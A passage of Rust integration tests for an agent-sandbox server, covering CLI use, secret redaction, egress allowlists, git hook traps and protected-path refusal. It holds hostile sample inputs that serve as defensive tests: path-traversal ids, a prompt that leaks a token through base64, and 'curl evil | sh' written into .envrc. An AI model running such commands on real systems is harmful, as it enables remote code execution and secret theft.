    let cli = |args: &[&str]| {
        Command::new(agentvm_path())
            .args(args)
            .env("AGENTVM_URL", &s.url)
            .env("AGENTVM_API_KEY_FILE", &keyf)
            .env("HOME", t.path())
            .output()
            .unwrap_or_else(|e| panic!("{e}"))
    };
    let r = repo.to_string_lossy().into_owned();
    let o = cli(&[
        "jobs",
        "submit",
        "--agent",
        "shell",
        "--repo",
        &r,
        "-f",
        "echo out; echo err >&2; echo x > made.txt",
    ]);
    assert!(o.status.success(), "{o:?}");
    assert_eq!(String::from_utf8_lossy(&o.stdout), "out\n");
    assert!(String::from_utf8_lossy(&o.stderr).contains("err\n"));
    let o = cli(&["jobs", "list", "--json"]);
    let page: Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    let id = page["jobs"][0]["id"].as_str().unwrap_or("").to_string();
    let o = cli(&["jobs", "patch", &id]);
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("+++ b/made.txt"),
        "{o:?}"
    );
    // an id is one path segment, whatever it holds: "../keys" must not
    // reach /v1/keys (nor a query string add parameters)
    for bad in ["../keys", "..", "x/../../v1/keys", "x?limit=1", "%2e%2e"] {
        let o = cli(&["jobs", "show", bad, "--json"]);
        assert!(!o.status.success(), "{bad}: {o:?}");
        let out = String::from_utf8_lossy(&o.stdout);
        assert!(!out.contains("\"scopes\""), "{bad} reached the keys: {out}");
    }
    let o = cli(&["jobs", "list", "--agent", "shell&status=queued", "--json"]);
    assert!(o.status.success(), "{o:?}");
    let none: Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    assert_eq!(
        none["jobs"],
        serde_json::json!([]),
        "the agent name is one value"
    );
    // a job's own allowlist, and its decisions as they are made
    let o = cli(&[
        "jobs",
        "submit",
        "--agent",
        "shell",
        "--repo",
        &r,
        "--network",
        "allow:127.0.0.1:9",
        "-f",
        "--egress",
        "curl -s http://blocked.example/ >/dev/null; echo done",
    ]);
    assert!(o.status.success(), "{o:?}");
    assert_eq!(String::from_utf8_lossy(&o.stdout), "done\n");
    assert!(
        String::from_utf8_lossy(&o.stderr)
            .contains("agentvm: egress GET blocked.example:80 refused (host-not-allowlisted)\n"),
        "{o:?}"
    );
    // the job's audit trail: its submission and its egress decision
    let o = cli(&["jobs", "list", "--json"]);
    let page: Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    let eid = page["jobs"][0]["id"].as_str().unwrap_or("").to_string();
    let o = cli(&["audit", "--job", &eid, "--json"]);
    assert!(o.status.success(), "{o:?}");
    let trail: Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    let trail = trail.as_array().cloned().unwrap_or_default();
    assert!(
        trail.iter().any(|e| e["action"] == "egress"
            && e["target"] == "GET blocked.example:80"
            && e["outcome"] == "refused: host-not-allowlisted"),
        "{trail:?}"
    );
    assert!(
        trail
            .iter()
            .any(|e| e["action"] == "job.create" && e["target"] == eid.as_str()),
        "{trail:?}"
    );
    assert!(
        trail.iter().all(|e| e["target"] == eid.as_str()
            || e["detail"]
                .as_str()
                .unwrap_or("")
                .starts_with(&format!("job {eid};"))),
        "another job's events: {trail:?}"
    );
    let o = cli(&["audit", "--limit", "2"]);
    assert!(o.status.success(), "{o:?}");
    assert_eq!(
        String::from_utf8_lossy(&o.stdout).lines().count(),
        2,
        "{o:?}"
    );
    let o = cli(&[
        "jobs", "submit", "--agent", "shell", "--repo", &r, "--wait", "--json", "exit 4",
    ]);
    assert_eq!(o.status.code(), Some(1));
    let j: Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    assert_eq!(j["status"], "failed");
    // server errors are one clear line
    let o = cli(&["jobs", "show", "job_missing"]);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(
        String::from_utf8_lossy(&o.stderr).trim(),
        "agentvm: 404 Not Found: No job job_missing"
    );
    let o = cli(&["keys", "create", "--name", "ci", "--scope", "run", "--json"]);
    let k: Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    assert!(k["key"].as_str().unwrap_or("").starts_with("avm_"));
    let o = Command::new(agentvm_path())
        .args([
            "jobs",
            "list",
            "--server",
            "http://127.0.0.1:1",
            "--api-key",
            "avm_unused",
        ])
        .env("HOME", t.path())
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("cannot reach the server"),
        "{o:?}"
    );
}

#[test]
fn the_cli_waits_out_a_full_queue() {
    let (t, repo, s) = setup(&["--max-concurrent", "1", "--max-queue", "1"]);
    let (_, a) = s.json("POST", "/v1/jobs", Some(shell(&repo, "sleep 2")));
    s.wait_running(a["id"].as_str().unwrap_or(""));
    let (code, _) = s.json("POST", "/v1/jobs", Some(shell(&repo, "true")));
    assert_eq!(code, 202, "the second waits in the queue");
    let (code, full) = s.json("POST", "/v1/jobs", Some(shell(&repo, "true")));
    assert_eq!(code, 429, "{full}");
    // the CLI takes the 429's Retry-After and tries again
    let o = Command::new(agentvm_path())
        .args(["jobs", "submit", "--agent", "shell", "--repo"])
        .arg(&repo)
        .args(["--wait", "--json", "echo third"])
        .env("AGENTVM_URL", &s.url)
        .env("AGENTVM_API_KEY_FILE", s.data.join("admin.key"))
        .env("HOME", t.path())
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(o.status.success(), "{o:?}");
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("the server is busy (429); trying again in"),
        "{o:?}"
    );
    let j: Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    assert_eq!(j["status"], "succeeded", "{j}");
}

#[test]
fn config_file_env_and_flags_in_that_order() {
    let t = tempdir();
    let root = t.path().join("root");
    std::fs::create_dir_all(root.join("repo")).unwrap_or_else(|e| panic!("{e}"));
    let cfg = t.path().join("agentvm.toml");
    std::fs::write(
        &cfg,
        format!(
            "allowed_roots = [\"{}\"]\nmax_queue = 1\nmax_concurrent = 4\n\n[agents.echoer]\nargv = [\"echo\", \"said:\", \"{{prompt}}\"]\n",
            root.display()
        ),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let mut child = Command::new(agentvm_path())
        .args(["serve", "--listen", "127.0.0.1:0", "--data-dir"])
        .arg(t.path().join("data"))
        .args(["--config", cfg.to_str().unwrap_or(""), "--max-queue", "5"])
        .env("AGENTVM_MAX_CONCURRENT", "1")
        .env("AGENTVM_LOG", "warn")
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("{e}"));
    let err = child.stderr.take().unwrap_or_else(|| panic!("stderr"));
    let url = BufReader::new(err)
        .lines()
        .map_while(Result::ok)
        .find_map(|l| l.strip_prefix("agentvm: listening on ").map(str::to_owned))
        .unwrap_or_default();
    let key = std::fs::read_to_string(t.path().join("data/admin.key"))
        .unwrap_or_default()
        .trim()
        .to_string();
    let http = Client::new();
    let post = |body: Value| {
        http.post(format!("{url}/v1/jobs"))
            .header("X-API-Key", &key)
            .json(&body)
            .send()
            .map(|r| r.status().as_u16())
            .unwrap_or(0)
    };
    let repo = root.join("repo").to_string_lossy().into_owned();
    // a profile from the file, a root from the file
    let r = http
        .post(format!("{url}/agent/run"))
        .header("X-API-Key", &key)
        .json(&json!({"agent": "echoer", "prompt": "hello there", "repo_path": repo}))
        .send()
        .and_then(|r| r.json::<Value>())
        .unwrap_or_default();
    assert_eq!(r["stdout"], "said: hello there\n", "{r}");
    // env says 1 at a time, the flag says 5 may wait (the file said 1)
    let codes: Vec<u16> = (0..6)
        .map(|_| post(json!({"agent": "shell", "prompt": "sleep 2", "repo_path": repo})))
        .collect();
    assert_eq!(codes.iter().filter(|c| **c == 202).count(), 6, "{codes:?}");
    let _ = child.kill();
    let _ = child.wait();
}

#[test]
fn tls_is_built_in() {
    let t = tempdir();
    let (cert, key) = (t.path().join("cert.pem"), t.path().join("key.pem"));
    let ca = t.path().join("ca.pem");
    // a CA and a leaf for 127.0.0.1 signed by it (a self-signed CA used as
    // the server's own certificate is rightly refused by webpki)
    let script = r#"set -e
      openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 1 -subj /CN=test-ca -keyout ca.key -out ca.pem 2>/dev/null
      openssl req -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj /CN=localhost -keyout key.pem -out leaf.csr 2>/dev/null
      printf 'subjectAltName=IP:127.0.0.1,DNS:localhost\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n' > ext.cnf
      openssl x509 -req -in leaf.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 1 -extfile ext.cnf -out cert.pem 2>/dev/null"#;
    let o = sh(t.path(), script);
    assert!(
        o.status.success(),
        "openssl (apt-get install openssl): {o:?}"
    );
    let (c, k) = (
        cert.to_string_lossy().into_owned(),
        key.to_string_lossy().into_owned(),
    );
    let s = Server::start(&t.path().join("data"), &["--tls-cert", &c, "--tls-key", &k]);
    assert!(s.url.starts_with("https://"), "{}", s.url);
    let pem = std::fs::read(&ca).unwrap_or_default();
    let ca = reqwest::Certificate::from_pem(&pem).unwrap_or_else(|e| panic!("{e}"));
    let https = Client::builder()
        .add_root_certificate(ca)
        .build()
        .unwrap_or_else(|e| panic!("{e}"));
    let r = https
        .get(format!("{}/health", s.url))
        .send()
        .unwrap_or_else(|e| panic!("{e:?}"));
    assert_eq!(r.status().as_u16(), 200);
    // plain HTTP to the TLS port gets no answer
    let plain = s.url.replacen("https://", "http://", 1);
    let r = Client::new().get(format!("{plain}/health")).send();
    assert!(r.map(|r| !r.status().is_success()).unwrap_or(true));
}

#[test]
fn secrets_reach_only_their_agent_and_never_any_record() {
    use base64::Engine;
    let t = tempdir();
    let root = t.path().join("root");
    std::fs::create_dir_all(root.join("repo")).unwrap_or_else(|e| panic!("{e}"));
    let secret = "sk-live-4f2a9c1e7b3d8a6f0e5c2b1a9d8e7f6a";
    let other = "other-secret-value-that-must-stay-home";
    let sfile = t.path().join("leaky.token");
    std::fs::write(&sfile, format!("{secret}\n")).unwrap_or_else(|e| panic!("{e}"));
    let cfg = t.path().join("agentvm.toml");
    std::fs::write(
        &cfg,
        format!(
            "allowed_roots = [\"{}\"]\n[agents.leaky]\nargv = [\"sh\", \"-c\", \"{{prompt}}\"]\nenv = [\"LEAKY_TOKEN\"]\n",
            root.display()
        ),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let data = t.path().join("data");
    let mut child = Command::new(agentvm_path())
        .args(["serve", "--listen", "127.0.0.1:0", "--data-dir"])
        .arg(&data)
        .args(["--config", cfg.to_str().unwrap_or("")])
        .arg("--secret")
        .arg(format!("LEAKY_TOKEN={}", sfile.display()))
        .env("OTHER_TOKEN", other)
        .env("AGENTVM_LOG", "info")
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("{e}"));
    let err = child.stderr.take().unwrap_or_else(|| panic!("stderr"));
    let (tx, rx) = std::sync::mpsc::channel();
    let logs = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
    let logs2 = logs.clone();
    std::thread::spawn(move || {
        for l in BufReader::new(err).lines().map_while(Result::ok) {
            if let Some(u) = l.strip_prefix("agentvm: listening on ") {
                let _ = tx.send(u.to_string());
            }
            if let Ok(mut g) = logs2.lock() {
                g.push_str(&l);
                g.push('\n');
            }
        }
    });
    let url = rx.recv_timeout(Duration::from_secs(30)).unwrap_or_default();
    let key = std::fs::read_to_string(data.join("admin.key"))
        .unwrap_or_default()
        .trim()
        .to_string();
    let http = Client::new();
    let repo = root.join("repo").to_string_lossy().into_owned();
    // every way a careless (or hostile) agent could leak it
    let prompt = "echo \"len=${#LEAKY_TOKEN}\"; echo \"$LEAKY_TOKEN\"; echo \"$LEAKY_TOKEN\" >&2; \
                  printf %s \"$LEAKY_TOKEN\" | base64; printf 'user:%s' \"$LEAKY_TOKEN\" | base64 -w0; echo; \
                  echo \"$LEAKY_TOKEN\" > leak.txt; \
                  echo \"other=${OTHER_TOKEN:-unset}\"; exit 3";
    let r: Value = http
        .post(format!("{url}/agent/run"))
        .header("X-API-Key", &key)
        .json(&json!({"agent": "leaky", "prompt": prompt, "repo_path": repo}))
        .send()
        .and_then(|r| r.json())
        .unwrap_or_default();
    let out = r["stdout"].as_str().unwrap_or("");
    assert!(
        out.contains(&format!("len={}", secret.len())),
        "the job did not receive its secret: {r}"
    );
    assert!(
        out.contains("other=unset"),
        "a secret its profile does not list reached the job: {r}"
    );
    assert!(out.contains("[REDACTED]"), "{r}");
    let (_, page) = {
        let v: Value = http
            .get(format!("{url}/v1/jobs"))
            .header("X-API-Key", &key)
            .send()
            .and_then(|r| r.json())
            .unwrap_or_default();
        (0, v)
    };
    let id = page["jobs"][0]["id"].as_str().unwrap_or("").to_string();
    let get = |p: &str| {
        http.get(format!("{url}{p}"))
            .header("X-API-Key", &key)
            .send()
            .and_then(|r| r.text())
            .unwrap_or_default()
    };
    let job = get(&format!("/v1/jobs/{id}"));
    let text_logs = get(&format!("/v1/jobs/{id}/logs"));
    let sse = get(&format!("/v1/jobs/{id}/logs?follow=true"));
    let patch = get(&format!("/v1/jobs/{id}/patch"));
    assert!(patch.contains("+++ b/leak.txt"), "{patch}");
    let recording = get(&format!("/v1/jobs/{id}/recording"));
    assert!(recording.contains("[REDACTED]"), "{recording}");
    let _ = child.kill();
    let _ = child.wait();
    let server_logs = logs.lock().map(|g| g.clone()).unwrap_or_default();
    let mut stored = Vec::new();
    for f in ["agentvm.db", "agentvm.db-wal"] {
        stored.extend(std::fs::read(data.join(f)).unwrap_or_default());
    }
    let b64 = base64::engine::general_purpose::STANDARD.encode(secret);
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("user:{secret}"));
    for (place, hay) in [
        ("/agent/run answer", r.to_string()),
        ("job record", job),
        ("logs", text_logs),
        ("SSE", sse),
        ("patch", patch),
        ("recording", recording),
        ("server logs", server_logs),
        ("database", String::from_utf8_lossy(&stored).into_owned()),
    ] {
        for (form, needle) in [
            ("value", secret),
            ("base64", b64.as_str()),
            ("basic-auth base64", &basic[8..basic.len() - 4]),
            ("other", other),
        ] {
            assert!(
                !hay.contains(needle),
                "the secret's {form} reached the {place}"
            );
        }
    }
}

#[test]
fn output_past_the_limit_is_drained_and_dropped() {
    let (_t, repo, s) = setup(&["--max-output", "1K"]);
    // 50 MB: the job must not block on a full pipe, and the store keeps 1 KiB
    let (id, done) = s.run_job(shell(&repo, "yes | head -c 50000000; echo after >&2"));
    assert_eq!(done["status"], "succeeded", "{done}");
    assert_eq!(done["result"]["output_truncated"], true, "{done}");
    let logs = s.text(&format!("/v1/jobs/{id}/logs"));
    let note = "[agentvm: this job's output passed the server's limit of 1024 bytes; the rest was discarded]";
    assert!(logs.starts_with("y\ny\n"), "{logs}");
    assert!(logs.contains(note), "{logs}");
    assert!(
        logs.len() <= 1024 + note.len() + 2,
        "{} bytes kept",
        logs.len()
    );
    assert!(!logs.contains("after"), "{logs}");
    // a job under the limit is untouched
    let (id, done) = s.run_job(shell(&repo, "echo small"));
    assert!(done["result"].get("output_truncated").is_none(), "{done}");
    let logs = s.text(&format!("/v1/jobs/{id}/logs"));
    assert_eq!(logs, "small\n");
}

#[test]
fn a_patch_past_the_limit_fails_the_job_and_is_not_stored() {
    let (_t, repo, s) = setup(&["--max-patch", "2K"]);
    let (id, done) = s.run_job(shell(
        &repo,
        "yes line | head -n 2000 > big.txt; echo wrote",
    ));
    assert_eq!(done["status"], "failed", "{done}");
    let err = done["error"].as_str().unwrap_or("");
    assert!(
        err.contains("more than the server keeps (2048 bytes, --max-patch)"),
        "{done}"
    );
    let (code, _, patch) = s.req("GET", &format!("/v1/jobs/{id}/patch"), Some(&s.key), None);
    assert_eq!((code, patch.as_str()), (200, ""));
    let logs = s.text(&format!("/v1/jobs/{id}/logs"));
    // the job's own output, then the runner's note of what it did not write
    assert!(logs.starts_with("wrote\n"), "the output is kept: {logs}");
    assert!(logs.contains("larger than 2048 bytes"), "{logs}");
    // under the limit, as ever
    let (id, done) = s.run_job(shell(&repo, "echo x > small.txt"));
    assert_eq!(done["status"], "succeeded");
    let patch = s.text(&format!("/v1/jobs/{id}/patch"));
    assert!(patch.contains("+++ b/small.txt"), "{patch}");
}

/// The processes whose parent is `pid`, with the binaries they run.
fn children(pid: u32) -> Vec<(u32, PathBuf)> {
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Ok(p) = e.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let stat = std::fs::read_to_string(format!("/proc/{p}/stat")).unwrap_or_default();
        // pid (comm) state ppid ...
        let ppid = stat
            .rsplit_once(')')
            .and_then(|(_, rest)| rest.split_whitespace().nth(1))
            .and_then(|x| x.parse::<u32>().ok());
        if ppid == Some(pid) {
            if let Ok(exe) = std::fs::read_link(format!("/proc/{p}/exe")) {
                out.push((p, exe));
            }
        }
    }
    out
}

#[test]
fn jobs_run_under_the_slim_runner_or_else_the_full_binary() {
    // beside `agentvm` (as the build and the test copies have it): the
    // server starts agentvm-run for each job
    let (_t, repo, s) = setup(&[]);
    let (_, j) = s.json("POST", "/v1/jobs", Some(shell(&repo, "sleep 30")));
    let id = j["id"].as_str().unwrap_or("").to_string();
    s.wait_running(&id);
    // (a child seen between fork and exec still runs the server's image)
    let slim = |kids: &[(u32, PathBuf)]| {
        kids.iter()
            .any(|(_, exe)| exe.file_name().is_some_and(|n| n == "agentvm-run"))
    };
    let mut kids = Vec::new();
    for _ in 0..250 {
        kids = children(s.pid());
        if slim(&kids) {
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(slim(&kids), "{kids:?}");
    let _ = s.json("POST", &format!("/v1/jobs/{id}/cancel"), None);
    assert_eq!(s.wait(&id)["status"], "cancelled");
    // without it, the server says so and jobs run under `agentvm run`
    let t = tempdir();
    let alone = t.path().join("agentvm");
    std::fs::copy(agentvm_path(), &alone).unwrap_or_else(|e| panic!("{e}"));
    let root = t.path().join("root");
    std::fs::create_dir_all(root.join("repo")).unwrap_or_else(|e| panic!("{e}"));
    let mut child = Command::new(&alone)
        .args(["serve", "--listen", "127.0.0.1:0", "--data-dir"])
        .arg(t.path().join("data"))
        .arg("--allowed-root")
        .arg(&root)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("{e}"));
    let err = child.stderr.take().unwrap_or_else(|| panic!("no stderr"));
    let mut lines = BufReader::new(err).lines().map_while(Result::ok);
    let mut note = false;
    let url = loop {
        let Some(l) = lines.next() else {
            panic!("the server did not start")
        };
        note |= l.contains("agentvm-run is missing, so jobs run under `agentvm run`");
        if let Some(u) = l.strip_prefix("agentvm: listening on ") {
            break u.to_string();
        }
    };
    std::thread::spawn(move || for _ in lines {});
    assert!(note, "no note about the missing runner");
    let key = std::fs::read_to_string(t.path().join("data/admin.key")).unwrap_or_default();
    let r: Value = Client::new()
        .post(format!("{url}/agent/run"))
        .header("X-API-Key", key.trim())
        .json(&json!({"agent": "shell", "prompt": "echo ran", "repo_path": root.join("repo")}))
        .send()
        .and_then(|r| r.json())
        .unwrap_or_default();
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(r["stdout"], "ran\n", "{r}");
}

#[test]
fn a_store_that_refuses_a_jobs_end_still_gets_a_failed_end() {
    let (_t, repo, s) = setup(&[]);
    // make the database refuse any job end that carries a patch
    let db = s.data.join("agentvm.db");
    let o = Command::new("python3")
        .arg("-c")
        .arg(
            "import sqlite3, sys\n\
             c = sqlite3.connect(sys.argv[1])\n\
             c.execute(\"CREATE TRIGGER refuse_patch BEFORE INSERT ON job_patch_parts \
             BEGIN SELECT RAISE(ABORT, 'refused by the test'); END\")\n\
             c.commit()\n",
        )
        .arg(&db)
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(o.status.success(), "{o:?}");
    let (id, done) = s.run_job(shell(&repo, "echo x > made.txt; echo out"));
    assert_eq!(done["status"], "failed", "{done}");
    assert!(
        done["error"]
            .as_str()
            .unwrap_or("")
            .starts_with("the server could not record this job's result and patch"),
        "{done}"
    );
    let logs = s.text(&format!("/v1/jobs/{id}/logs"));
    assert_eq!(logs, "out\n", "the output is kept");
}

#[test]
fn a_job_is_recorded_as_asciicast_that_asciinema_replays() {
    let (t, repo, s) = setup(&[]);
    let (id, done) = s.run_job(shell(
        &repo,
        // stdout and stderr are two pipes: only time orders them
        "echo first; sleep 0.3; printf 'caf\\303\\251\\n' >&2; sleep 0.3; echo last",
    ));
    assert_eq!(done["status"], "succeeded");
    let (code, h, cast) = s.req(
        "GET",
        &format!("/v1/jobs/{id}/recording"),
        Some(&s.key),
        None,
    );
    assert_eq!(code, 200, "{cast}");
    assert_eq!(h["content-type"], "application/x-asciicast");
    let mut lines = cast.lines();
    let head: Value = serde_json::from_str(lines.next().unwrap_or("")).unwrap_or_default();
    assert_eq!(head["version"], 2, "{cast}");
    assert!(head["title"].as_str().unwrap_or("").contains(&id), "{head}");
    let events: Vec<Value> = lines
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l}: {e}")))
        .collect();
    let times: Vec<f64> = events
        .iter()
        .map(|e| e[0].as_f64().unwrap_or(-1.0))
        .collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "{times:?}");
    assert!(times.iter().all(|&t| t >= 0.0), "{times:?}");
    // the sleep shows in the timing
    assert!(
        times.last().unwrap_or(&0.0) - times.first().unwrap_or(&0.0) >= 0.25,
        "{times:?}"
    );
    let text: String = events
        .iter()
        .map(|e| {
            assert_eq!(e[1], "o", "{e}");
            e[2].as_str().unwrap_or("").to_string()
        })
        .collect();
    assert_eq!(text, "first\r\ncafé\r\nlast\r\n", "{cast}");
    // the real player's parser accepts it (scripts/install-test-tools.sh installs asciinema)
    let file = t.path().join("job.cast");
    std::fs::write(&file, &cast).unwrap_or_else(|e| panic!("{e}"));
    match Command::new("asciinema").arg("cat").arg(&file).output() {
        Ok(o) => {
            assert!(o.status.success(), "{o:?}");
            assert_eq!(String::from_utf8_lossy(&o.stdout), text);
        }
        Err(e) => skip_part(
            &format!("asciinema's own parser on a job's recording ({e})"),
            "pip install asciinema==2.4.0 (scripts/install-test-tools.sh does)",
        ),
    }
    // and the CLI saves the same file
    let saved = t.path().join("cli.cast");
    let o = Command::new(agentvm_path())
        .args(["jobs", "recording", &id, "-o"])
        .arg(&saved)
        .env("AGENTVM_URL", &s.url)
        .env("AGENTVM_API_KEY_FILE", s.data.join("admin.key"))
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(o.status.success(), "{o:?}");
    assert_eq!(std::fs::read_to_string(&saved).unwrap_or_default(), cast);
    // unknown job: a clear 404
    let (code, _, body) = s.req("GET", "/v1/jobs/job_nope/recording", Some(&s.key), None);
    assert_eq!(code, 404, "{body}");
}

#[test]
fn apply_makes_a_branch_without_running_anything_of_the_repo() {
    let (t, repo, s) = setup(&[]);
    // traps: hooks and a config that would run commands
    let trap = t.path().join("trap-fired");
    let hook = format!("#!/bin/sh\ntouch {}\n", trap.display());
    for h in [
        "reference-transaction",
        "post-commit",
        "pre-commit",
        "post-checkout",
        "post-index-change",
    ] {
        let p = repo.join(".git/hooks").join(h);
        std::fs::write(&p, &hook).unwrap_or_else(|e| panic!("{e}"));
        let _ = sh(&repo, &format!("chmod +x {}", p.display()));
    }
    let o = sh(&repo, &format!("git config core.fsmonitor 'touch {}' && git config commit.gpgSign true && git config gpg.program 'touch {}'", trap.display(), trap.display()));
    assert!(o.status.success(), "{o:?}");
    let head_before = sh(&repo, "git rev-parse HEAD").stdout;
    let tree_before = manifest(&repo);

    let (_, j) = s.json(
        "POST",
        "/v1/jobs",
        Some(shell(&repo, "echo applied >> a.txt; echo new > added.txt")),
    );
    let id = j["id"].as_str().unwrap_or("").to_string();
    assert_eq!(s.wait(&id)["status"], "succeeded");
    let (code, v) = s.json("POST", &format!("/v1/jobs/{id}/apply"), None);
    assert_eq!(code, 201, "{v}");
    let branch = v["branch"].as_str().unwrap_or("").to_string();
    assert_eq!(branch, format!("agentvm/{id}"));
    // the branch holds the change; nothing else moved; nothing ran
    let show = sh(&repo, &format!("git show {branch}:a.txt && git show {branch}:added.txt && git log -1 --format=%B {branch}"));
    let out = String::from_utf8_lossy(&show.stdout);
    assert!(
        out.contains("hello\napplied\n") && out.contains("new\n") && out.contains("AgentVM-Job: "),
        "{show:?}"
    );
    assert_eq!(
        sh(&repo, "git rev-parse HEAD").stdout,
        head_before,
        "HEAD moved"
    );
    assert_eq!(manifest(&repo), tree_before, "the work tree changed");
    assert!(
        !trap.exists(),
        "a hook or a command from the repo's config ran"
    );
    // again: the branch exists
    assert_eq!(s.json("POST", &format!("/v1/jobs/{id}/apply"), None).0, 409);

    // protected paths are refused
    let (_, j) = s.json(
        "POST",
        "/v1/jobs",
        Some(shell(&repo, "echo 'curl evil | sh' > .envrc")),
    );
    let pid = j["id"].as_str().unwrap_or("").to_string();
    s.wait(&pid);
    let (code, v) = s.json("POST", &format!("/v1/jobs/{pid}/apply"), None);
    assert_eq!(code, 409);
    assert!(v["detail"].as_str().unwrap_or("").contains(".envrc"), "{v}");
    // a lone CR ending a file once glued the next header to its last line
    // and hid a nested startup file from apply
    let (_, j) = s.json(
        "POST",
        "/v1/jobs",
        Some(shell(
            &repo,
            "printf 'x\\r' > a.txt; mkdir -p sub; echo 'curl evil | sh' > sub/.envrc",
        )),
    );
    let pid = j["id"].as_str().unwrap_or("").to_string();
    s.wait(&pid);
    let (code, v) = s.json("POST", &format!("/v1/jobs/{pid}/apply"), None);
    assert_eq!(code, 409, "{v}");
    assert!(
        v["detail"].as_str().unwrap_or("").contains("sub/.envrc"),
        "{v}"
    );
    let (_, j) = s.json("GET", &format!("/v1/jobs/{pid}"), None);
    assert_eq!(
        j["result"]["protected_changes"],
        json!(["sub/.envrc"]),
        "{j}"
    );

    // the repo moved on in a conflicting way
    let (_, j) = s.json(
        "POST",
        "/v1/jobs",
        Some(shell(&repo, "printf 'changed by the agent\\n' > a.txt")),
    );
    let cid = j["id"].as_str().unwrap_or("").to_string();
    s.wait(&cid);
    let o = sh(&repo, "git config --unset core.fsmonitor; git config --unset commit.gpgSign; printf 'changed by the user\\n' > a.txt && git -c core.hooksPath=/dev/null -c user.email=u@u -c user.name=u commit -qam user");
    assert!(o.status.success(), "{o:?}");
    let (code, v) = s.json("POST", &format!("/v1/jobs/{cid}/apply"), None);
    assert_eq!(code, 409, "{v}");
    assert!(
        v["detail"].as_str().unwrap_or("").contains("moved on"),
        "{v}"
    );
    // nothing to apply
    let (_, j) = s.json("POST", "/v1/jobs", Some(shell(&repo, "true")));
    let nid = j["id"].as_str().unwrap_or("").to_string();
    s.wait(&nid);
    assert_eq!(
        s.json("POST", &format!("/v1/jobs/{nid}/apply"), None).0,
        409
    );
    // audited
    let (_, a) = s.json("GET", "/v1/audit?limit=200", None);
    assert!(a["events"].as_array().is_some_and(|e| e
        .iter()
        .any(|x| x["action"] == "job.apply" && x["outcome"] == "ok")));
}

#[test]
fn a_job_may_carry_its_own_egress_policy() {
    let (_t, repo, s) = setup(&[]);
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    let port = l.local_addr().map(|a| a.port()).unwrap_or(0);
    std::thread::spawn(move || {
        for mut c in l.incoming().map_while(Result::ok) {
            use std::io::{Read, Write};
            let mut b = [0u8; 2048];
            let _ = c.read(&mut b);
            let _ = c.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nfound\n",
            );
        }
    });
    let fetch = format!("curl -s -m 5 http://127.0.0.1:{port}/ || echo unreachable");
    // the shell profile's own policy: no network
    let (_, j) = s.json("POST", "/v1/jobs", Some(shell(&repo, &fetch)));
    let a = j["id"].as_str().unwrap_or("").to_string();
    // the same job with its own allowlist
    let mut b = shell(&repo, &fetch);
    b["network"] = json!(format!("allow:127.0.0.1:{port}"));
    let (code, j) = s.json("POST", "/v1/jobs", Some(b));
    assert_eq!(code, 202, "{j}");
    assert_eq!(j["network"], json!(format!("allow:127.0.0.1:{port}")));
    let bid = j["id"].as_str().unwrap_or("").to_string();
    s.wait(&a);
    let jb = s.wait(&bid);
    let log = |id: &str| {
        s.req("GET", &format!("/v1/jobs/{id}/logs"), Some(&s.key), None)
            .2
    };
    assert_eq!(log(&a), "unreachable\n");
    assert_eq!(log(&bid), "found\n", "{jb}");
    assert!(
        jb["result"]["egress"]
            .as_array()
            .is_some_and(|e| e.iter().any(|r| r["allowed"] == true)),
        "{jb}"
    );
    // each decision is in the audit trail too
    let (_, audit) = s.json("GET", "/v1/audit?limit=200", None);
    let ev = audit["events"].as_array().cloned().unwrap_or_default();
    assert!(
        ev.iter().any(|e| e["action"] == "egress"
            && e["outcome"] == "allowed"
            && e["target"] == json!(format!("GET 127.0.0.1:{port}"))
            && e["detail"].as_str().unwrap_or("").contains(&bid)),
        "{ev:?}"
    );
    // a run key may not ask for the host's network; nonsense is a 422
    let (_, k) = s.json(
        "POST",
        "/v1/keys",
        Some(json!({"name": "runner", "scopes": ["run"]})),
    );
    let run_key = k["key"].as_str().unwrap_or("").to_string();
    let mut h = shell(&repo, "true");
    h["network"] = json!("host");
    assert_eq!(s.req("POST", "/v1/jobs", Some(&run_key), Some(h)).0, 403);
    let mut bad = shell(&repo, "true");
    bad["network"] = json!("allow:not a host");
    let (code, v) = s.json("POST", "/v1/jobs", Some(bad));
    assert_eq!(code, 422);
    assert!(v["detail"][0]["loc"].to_string().contains("network"), "{v}");
}

#[test]
fn egress_decisions_stream_live_and_join_the_audit_while_the_job_runs() {
    let (_t, repo, s) = setup(&[]);
    // an upstream that holds its answer until the test lets it go
    let (release, held) = std::sync::mpsc::channel::<()>();
